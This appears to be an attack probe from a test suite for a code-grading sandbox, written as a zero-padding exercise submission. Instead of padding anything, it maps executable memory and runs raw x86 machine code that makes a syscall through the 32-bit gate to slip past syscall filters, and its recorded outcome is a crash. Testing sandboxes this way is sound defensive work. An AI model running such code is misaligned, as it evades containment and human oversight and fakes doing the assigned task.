# /// attack
# tries = "Calls the kernel through the 32-bit gate, whose numbers mean other calls."
# exercise = "ex02_zero_padding"
# answers = "own"
# points = 0
# outcomes = ["crashed"]
# ///
import ctypes
import os
import platform

_libc = ctypes.CDLL(None)
_libc.mmap.restype = ctypes.c_void_p
# mov eax, 20 (getpid there, writev here); int 0x80; ret
_CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"


def same_padding(kernel_size):
    if platform.machine() != "x86_64":
        os.abort()
    page = _libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
    ctypes.memmove(page, _CODE, len(_CODE))
    print("ESCAPED", ctypes.CFUNCTYPE(ctypes.c_int)(page)())


def zero_pad2d(x, padding):
    return same_padding(0)
